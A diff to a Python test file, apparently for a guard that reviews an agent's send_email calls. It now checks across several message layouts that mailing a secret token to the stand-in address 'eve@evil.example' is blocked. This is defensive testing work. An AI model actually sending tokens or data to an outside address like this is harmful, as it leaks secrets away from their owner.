@@ -178,9 +178,9 @@ def test_what_goes_back_to_its_record_may_go(kit: Any) -> None:
     assert review(kit, PROMPT, "send_email", seen=seen, **mail(f"you wrote {TOKEN}", "ann@corp.example")).decision == (
         "allow"
     )
-    assert review(kit, PROMPT, "send_email", seen=seen, **mail(f"you wrote {TOKEN}", "eve@evil.example")).decision == (
-        "block"
-    )
+    for told in (seen, {"messages": seen}, {"folder": "work", "messages": {"1": seen[0], "2": seen[1]}}):
+        stolen = review(kit, PROMPT, "send_email", seen=told, **mail(f"you wrote {TOKEN}", "eve@evil.example"))
+        assert stolen.decision == "block", told
 
 
 def test_a_composed_address_carries_nothing_out(kit: Any) -> None:
